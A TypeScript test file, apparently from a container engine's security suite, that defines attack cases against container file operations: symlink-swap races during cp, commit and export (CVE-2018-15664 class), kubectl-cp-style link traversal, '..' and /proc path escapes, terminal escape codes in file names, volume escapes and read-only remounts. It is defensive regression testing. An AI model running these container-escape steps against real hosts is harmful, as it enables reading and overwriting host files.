import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Attack } from './attack.js';
import type { AttackRun } from './attack-run.js';

/** What goes in and out of a container that runs, and changes its files meanwhile: cp, commit, export, diff. */

/** A container in which /w/d is by turns a folder and a link to the host's folder, without a pause. */
async function swapping(attempt: AttackRun, flags: string[] = []): Promise<string> {
  const { folder } = attempt.host;
  const script = `mkdir -p /w/d ${folder}; echo inside > /w/d/victim; echo inside > ${folder}/victim; exec attacker swap /w/d ${folder}`;
  const name = await attempt.detach(script, flags);
  await attempt.says(name, 'swapping');
  return name;
}

async function often(times: number, once: (round: number) => Promise<unknown>): Promise<void> {
  for (let round = 0; round < times; round++) await once(round);
}

export const FILES: Attack[] = [
  {
    name: 'commit, while a folder is swapped with a link',
    aim: 'host read',
    by: 'process',
    reference: 'CVE-2018-15664 (its class)',
    alsoAsRoot: true,
    commit: async (attempt) => {
      const name = await swapping(attempt);
      await often(8, async (round) => {
        const image = `localhost/${attempt.token}-commit:${round}`;
        const { status } = await attempt.command(['commit', name, image]);
        if (status !== 0) return;
        await attempt.run(['cat', '/w/d/victim', '/w/d.link/victim'], { image });
      });
    },
  },
  {
    name: 'export, while a folder is swapped with a link',
    aim: 'host read',
    by: 'process',
    reference: 'CVE-2018-15664 (its class)',
    alsoAsRoot: true,
    commit: async (attempt) => {
      const name = await swapping(attempt);
      await often(6, () => attempt.command(['export', name]));
    },
  },
  {
    name: 'export of a container with storage driver copy, while a folder is swapped with a link',
    aim: 'host read',
    by: 'process',
    reference: 'CVE-2018-15664 (its class)',
    fosterOnly: 'the storage driver is of foster',
    commit: async (attempt) => {
      const env = { FOSTER_STORAGE_DRIVER: 'copy' };
      const { folder } = attempt.host;
      const name = `${attempt.token}-copy`;
      const script = `mkdir -p /w/d ${folder}; echo inside > /w/d/victim; echo inside > ${folder}/victim; exec attacker swap /w/d ${folder}`;
      const args = ['run', '-d', '--name', name, 'localhost/attack:1', 'sh', '-c', script];
      await attempt.command(args, { env, stdio: 'ignore' });
      await attempt.says(name, 'swapping');
      await often(6, () => attempt.command(['export', name], { env }));
      await often(2, () => attempt.command(['diff', name], { env }));
      await attempt.engine.command(['rm', '-f', name], { env });
    },
  },
  {
    name: 'cp from the container, while a folder is swapped with a link',
    aim: 'host read',
    by: 'process',
    reference: 'CVE-2018-15664',
    alsoAsRoot: true,
    commit: async (attempt) => {
      const name = await swapping(attempt);
      await often(4, async () => {
        for (const path of ['/w/d/victim', '/w/.', '/w/d'])
          await attempt.command(['cp', `${name}:${path}`, '-']);
      });
    },
  },
  {
    name: 'cp into the container, while a folder is swapped with a link',
    aim: 'host write',
    by: 'process',
    reference: 'CVE-2018-15664',
    alsoAsRoot: true,
    commit: async (attempt) => {
      const name = await swapping(attempt);
      const file = join(attempt.host.work, 'victim');
      writeFileSync(file, 'from outside');
      await often(6, async () => {
        await attempt.command(['cp', file, `${name}:/w/d/victim`]);
        await attempt.command(['cp', file, `${name}:/w/d/new`]);
      });
    },
  },
  {
    name: 'cp of a tree with links to a folder with links of the same names',
    aim: 'host write',
    by: 'process',
    reference: 'CVE-2019-1002101 (kubectl cp)',
    commit: async (attempt) => {
      const { folder } = attempt.host;
      const name = await attempt.detach(
        `mkdir /w/t /w/t/a; ln -s ${folder} /w/t/l; ln -s ../../../../../../..${folder} /w/t/up; echo new > /w/t/a/victim; ln -s ${folder}/victim /w/t/f; echo holding; sleep 1000`,
      );
      await attempt.says(name, 'holding');
      const to = join(attempt.host.work, 'to');
      mkdirSync(to);
      // As if the container had been copied before, and has put a folder in the place of the link since.
      await attempt.command(['cp', `${name}:/w/t/.`, to]);
      await attempt.command([
        'exec',
        name,
        'sh',
        '-c',
        `rm /w/t/l /w/t/f; mkdir /w/t/l; echo evil > /w/t/l/victim; echo evil > /w/t/l/new; echo evil > /w/t/f`,
      ]);
      await attempt.command(['cp', `${name}:/w/t/.`, to]);
    },
  },
  {
    name: 'cp of names with .., and of a volume that is a link',
    aim: 'host read',
    by: 'process',
    commit: async (attempt) => {
      const { folder, victim } = attempt.host;
      const name = await attempt.detach(`ln -s ${folder} /w/out; ln -s / /w/root; echo holding; sleep 1000`);
      await attempt.says(name, 'holding');
      const paths = [
        `/w/../../../../../../..${victim}`,
        `/w/out/victim`,
        `/w/root${victim}`,
        `/proc/1/root${victim}`,
        `/proc/self/cwd/../../../../..${victim}`,
        `/proc/self/fd/3${victim}`,
      ];
      for (const path of paths) {
        await attempt.command(['cp', '-L', `${name}:${path}`, '-']);
        await attempt.command(['cp', '/etc/hostname', `${name}:${path}`]);
      }
    },
  },
  {
    name: 'control characters in file names, in diff and export',
    aim: 'confusion',
    by: 'process',
    commit: async (attempt) => {
      const name = await attempt.detach(
        `touch "$(printf '/w/\\033]0;evil\\007\\033[2J')"; echo holding; sleep 1000`,
      );
      await attempt.says(name, 'holding');
      const { output } = await attempt.command(['diff', name]);
      const copied = await attempt.command(['cp', `${name}:/w/\x1b]0;evil`, '/nosuch/place']);
      return output.includes('\x1b') || copied.output.includes('\x1b');
    },
  },
  {
    name: 'removing a container whose folders have become links',
    aim: 'host write',
    by: 'process',
    alsoAsRoot: true,
    commit: async (attempt) => {
      for (let round = 0; round < 2; round++) {
        const name = await swapping(attempt);
        await attempt.command(['rm', '-f', name]);
      }
      const name = await attempt.detach(
        `mkdir -p /w/a/b; rm -rf /w/a; ln -s ${attempt.host.folder} /w/a; ln -s ${attempt.host.folder} /link`,
      );
      await attempt.command(['rm', '-f', name]);
    },
  },
  {
    name: "computing a container's size, while a folder is swapped with a link",
    aim: 'host read',
    by: 'process',
    commit: async (attempt) => {
      // Its size, if it is counted, is not to be overlooked.
      writeFileSync(join(attempt.host.folder, 'large'), Buffer.alloc(50 << 20));
      attempt.host.guard();
      const name = await swapping(attempt);
      let largest = 0;
      for (let round = 0; round < 3; round++) {
        const { output } = await attempt.command(['ps', '-s', '--filter', `name=${name}`]);
        for (const [, number, unit] of output.matchAll(/([\d.]+) ?(MB|MiB|kB|B)\b(?! \(virtual)/g))
          largest = Math.max(largest, /^M/.test(unit ?? '') ? Number(number) : 0);
      }
      return largest >= 40;
    },
  },
  {
    name: 'writing to a shared layer that foster mount shows',
    aim: 'host write',
    by: 'process',
    fosterOnly: 'podman gives a mount of its own',
    commit: async (attempt) => {
      const name = `${attempt.token}-m`;
      await attempt.command(['create', '--name', name, 'localhost/attack:1', 'true']);
      const script = `m=$("${process.env.FOSTER ?? 'dist/foster'}" mount ${name}) && touch $m/WRITTEN-${attempt.token}`;
      await attempt.command(['unshare', 'sh', '-c', script]);
      await attempt.engine.command(['umount', name]);
      await attempt.engine.command(['rm', '-f', name]);
      return (await attempt.shell('ls /')).output.includes(`WRITTEN-${attempt.token}`);
    },
  },
];

/** Kept for attacks on folders of the host that are given as volumes. */
export const VOLUMES: Attack[] = [
  {
    name: 'leaving a volume by .. and links',
    aim: 'escape',
    by: 'process',
    alsoAsRoot: true,
    commit: async (attempt) => {
      const inner = join(attempt.host.work, 'inner');
      mkdirSync(inner);
      symlinkSync(attempt.host.folder, join(inner, 'out'));
      writeFileSync(join(attempt.host.work, 'beside'), attempt.host.secret);
      await attempt.shell(
        'cat /v/../beside /v/out/victim /v/../../victim; echo x > /v/out/victim; ls -la /v/..',
        {
          flags: ['-v', `${inner}:/v`],
        },
      );
      return readdirSync(inner).length !== 1 || existsSync(join(attempt.host.folder, 'new'));
    },
  },
  {
    name: "a volume's destination below a link out of the image",
    aim: 'host write',
    by: 'image',
    reference: 'CVE-2021-30465',
    alsoAsRoot: true,
    commit: async (attempt) => {
      const { folder } = attempt.host;
      const members = [
        { name: 'v', type: '2', target: folder },
        { name: 'x', type: '2', target: '/proc/self/fd/7' },
      ];
      const image = await attempt.image([members]);
      if (image === undefined) return;
      for (const place of ['/v/made/deep', '/v/victim', '/x/made', `/w/../../../..${folder}/up`])
        await attempt.shell('true', { image, flags: ['-v', `${attempt.host.work}:${place}`] });
      await attempt.shell('true', { image, flags: ['--tmpfs', '/v/fresh'] });
    },
  },
  {
    name: 'remounting a read-only volume read-write',
    aim: 'host write',
    by: 'process',
    alsoAsRoot: true,
    weakenedBy: ['--cap-add', 'SYS_ADMIN', '--security-opt', 'seccomp=unconfined'],
    commit: async (attempt) => {
      await attempt.shell(
        'mount -o remount,bind,rw /v; echo written >> /v/victim; umount /v; echo written >> /v/victim',
        {
          flags: ['-v', `${attempt.host.folder}:/v:ro`],
        },
      );
      return readFileSync(attempt.host.victim, 'utf8').includes('written');
    },
  },
];
